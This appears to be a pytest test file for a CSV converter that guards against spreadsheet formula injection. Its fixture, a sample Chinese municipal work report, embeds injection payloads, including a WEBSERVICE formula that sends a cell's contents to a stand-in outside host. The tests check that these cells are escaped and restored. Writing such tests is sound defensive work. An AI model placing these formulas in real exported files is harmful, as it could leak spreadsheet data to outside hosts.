"""CSV that every spreadsheet takes for text and numbers, and that is restored unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from command import run
from hypothesis import given, strategies as st

from converter.tables.cells import as_written, csv_text, harmless

BEGINNINGS = "=+-@\t\r\n＝＋－＠"
"""First characters of cells that some spreadsheet runs: OWASP's list with line feed and full-width forms."""

REPORT = """示例市2022年政府工作报告
——2022年1月11日在示例市第九届人民代表大会第一次会议上
示例市市长 某某
各位代表：
现在，我代表示例市人民政府，向大会报告工作，请予审议。
一、=1+1的工作回顾
=WEBSERVICE("http://example.org/"&A1)，地区生产总值增长8%。
@SUM(A1)，地区生产总值下降3.2%。
＝1+1，地区生产总值增长5%。
-2+3，地区生产总值增长4%。
'=1+1，地区生产总值增长2%。
"""


@pytest.fixture
def report(tmp_path: Path) -> Path:
    path = tmp_path / "a.txt"
    path.write_text(REPORT, "utf-8")
    return path


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("beginning", BEGINNINGS)
@pytest.mark.parametrize("rest", ["", "1+1", "HYPERLINK(A1)", "3℃", "86-10-1234"])
def test_a_cell_that_begins_like_a_formula_is_a_text(beginning: str, rest: str) -> None:
    assert harmless(beginning + rest) == "'" + beginning + rest


@pytest.mark.parametrize(
    "number", ["-3.2", "+5", "-1,234.5", "-8%", "-.5", "-1e5", "-1.5E+7", "0", "12", "−3.2", -3.2, 7, None]
)
def test_a_number_stays_a_number(number: object) -> None:
    assert harmless(number) == number


@given(st.text(st.sampled_from(BEGINNINGS + "'1a%.") | st.characters()))
def test_what_was_made_harmless_comes_back(cell: str) -> None:
    guarded = harmless(cell)
    assert as_written(guarded) == cell
    if guarded[:1] in BEGINNINGS:
        float(guarded.rstrip("%").replace(",", "") or "0")


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\r\0")), min_size=2, max_size=2)))
def test_a_table_comes_back(rows: list[list[str]]) -> None:
    found = cells(csv_text(("a", "b"), rows))
    assert [[as_written(cell) for cell in row] for row in found[1:]] == rows
    assert cells(csv_text(("a", "b"), rows, raw=True))[1:] == rows


@pytest.mark.parametrize("words", [["--to", "csv"], ["--to", "csv", "--typography", "source"]])
def test_the_table_of_quantities_runs_nothing_and_raw_is_as_written(report: Path, words: list[str]) -> None:
    table = run(report, *words, "-q")
    assert table.status == 0
    found = cells(table.text)
    assert len(found) > 4
    assert all(harmless(cell) == cell or cell.startswith("'") for row in found for cell in row)
    raw = cells(run(report, *words, "-q", "--raw-csv").text)
    assert [[as_written(cell) for cell in row] for row in found] == raw != found
    sentence = found[0].index("sentence")
    assert [row[sentence][0] for row in raw[1:]] == ["=", "@", "＝", "-", "'"]


def test_the_table_of_an_indicator_runs_nothing_and_raw_is_as_written(report: Path, tmp_path: Path) -> None:
    words = ["indicators", report, "-i", "gdp", "--to", "csv"]
    found = cells(run(*words).text)
    raw = cells(run(*words, "--raw-csv").text)
    assert [[as_written(cell) for cell in row] for row in found] == raw != found
    value = found[0].index("value")
    assert "-3.2" in [row[value] for row in found]


def test_raw_is_for_csv_alone(report: Path) -> None:
    for words in ([report, "--raw-csv"], ["indicators", report, "-i", "gdp", "--raw-csv"]):
        result = run(*words)
        assert (result.status, result.out) == (2, b"")
        assert "--raw-csv is for csv; name it with --to" in result.err
